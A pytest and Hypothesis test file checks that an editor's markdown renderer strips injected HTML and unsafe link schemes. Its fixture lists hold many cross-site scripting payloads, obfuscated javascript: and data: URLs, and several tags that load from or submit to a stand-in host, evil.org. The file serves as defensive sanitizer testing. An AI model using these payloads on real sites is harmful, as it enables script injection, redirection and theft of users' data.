"""Whatever somebody writes: in another person's page it is an element and attribute of the list below, or text."""

import re
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from editor.markdown import to_html

from .elements import Element, parse

EVERYWHERE = {"data-at"}
ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in ("h1", "h2", "h3", "h4", "h5", "h6", "p", "blockquote", "pre", "ul", "li", "br", "hr")},
    **{tag: set() for tag in ("em", "strong", "del", "code", "table", "thead", "tbody", "tr")},
    "th": {"align"},
    "td": {"align"},
    "ol": {"start"},
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title"},
    "input": {"type", "checked", "disabled"},
}
SCHEMES = {"", "http", "https", "mailto"}

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.org/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style=position:fixed>over everything</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><base href=//evil.org>",
    "<meta http-equiv=refresh content='0;url=//evil.org'><link rel=stylesheet href=//evil.org>",
    "<form action=//evil.org><button formaction=javascript:alert(1)>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<div hx-get=/healthz hx-trigger=load>",
    "<i id=sync data-hx-on:click=alert(1) hx-swap-oob=true>",
    "<div hx-ext=ws ws-connect=//evil.org ws-send>",
    "</textarea><script>alert(1)</script>",
    "</section><section id=b-1 class=block>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "<a href=javascript:alert(1)>x</a>",
    "<b/onclick=alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "%6Aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "file:///etc/passwd",
    "blob:https://x.org/1",
    "feed:javascript:alert(1)",
    'x" onclick="alert(1)',
    "x' onclick='alert(1)",
    "x`onclick=alert(1)",
    "</a><script>alert(1)</script>",
    'https://x.org/" data-sourcepos="1:1-9:9',
]
PLACES = [
    "{}",
    "# {}",
    "> {}",
    "- {}",
    "- [ ] {}",
    "**{}**",
    "`{}`",
    "```{}\n{}\n```",
    "    {}",
    "| {} |\n|---|\n| {} |",
]
LINKS = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "![{}](/x)",
    '[x](/x "{}")',
    "[x](/x '{}')",
    "<{}>",
    "[x]\n\n[x]: {}",
    "[x]\n\n[x]: /x '{}'",
    "[![x]({})]({})",
    "{}",
]


def assert_safe(text: str) -> None:
    for element in parse(to_html(text)).all():
        assert element.tag in ALLOWED, (text, element)
        assert element.attributes.keys() <= ALLOWED[element.tag] | EVERYWHERE, (text, element)
        for name in ("href", "src"):
            assert scheme(element.attributes.get(name) or "") in SCHEMES, (text, element)
        _assert_values(element)


def scheme(address: str) -> str:
    """As browsers read an address: they drop control characters and spaces before and within."""
    return urlsplit(re.sub(r"[\x00-\x20]", "", address)).scheme.lower()


def _assert_values(element: Element) -> None:
    attributes = element.attributes
    assert re.fullmatch(r"\d*", attributes.get("data-at") or "")
    assert re.fullmatch(r"\d*", attributes.get("start") or "")
    assert attributes.get("align") in (None, "left", "center", "right")
    if element.tag == "input":
        assert attributes["type"] == "checkbox"
        assert "disabled" in attributes
    if element.tag == "a":
        assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("payload", HTML)
def test_raw_html_is_text_wherever_it_stands(payload: str) -> None:
    for place in [*PLACES, *LINKS]:
        assert_safe(place.replace("{}", payload))
    assert not [each for each in parse(to_html(payload)).all() if each.tag not in ("p", "a")]


@pytest.mark.parametrize("address", ADDRESSES)
def test_addresses_lead_to_pages_and_letterboxes_alone(address: str) -> None:
    for link in LINKS:
        assert_safe(link.replace("{}", address))


def test_good_addresses_stay() -> None:
    for address in ("https://x.org/a?b=c&d#e", "http://x.org", "mailto:a@x.org", "/here", "#there", "../up", "//x.org"):
        (link,) = [each for each in parse(to_html(f"[x](<{address}>)")).all() if each.tag == "a"]
        assert link.attributes["href"] == address


PIECES = [
    *HTML,
    *ADDRESSES,
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "\n",
    "\n\n",
    "`",
    "```\n",
    '"',
    "'",
    "|",
    "*",
    " ",
    "&",
    "\\",
]


@settings(max_examples=400)
@given(st.lists(st.sampled_from(PIECES), max_size=8).map("".join))
def test_no_mixture_gives_anything_else(text: str) -> None:
    assert_safe(text)


@settings(max_examples=400)
@given(st.lists(st.sampled_from(PIECES), max_size=4), st.data())
def test_no_cut_gives_anything_else(pieces: list[str], data: st.DataObject) -> None:
    """Everyone who types passes through every beginning of what they type."""
    text = "".join(pieces)
    assert_safe(text[data.draw(st.integers(0, len(text))) :])
    assert_safe(text[: data.draw(st.integers(0, len(text)))])
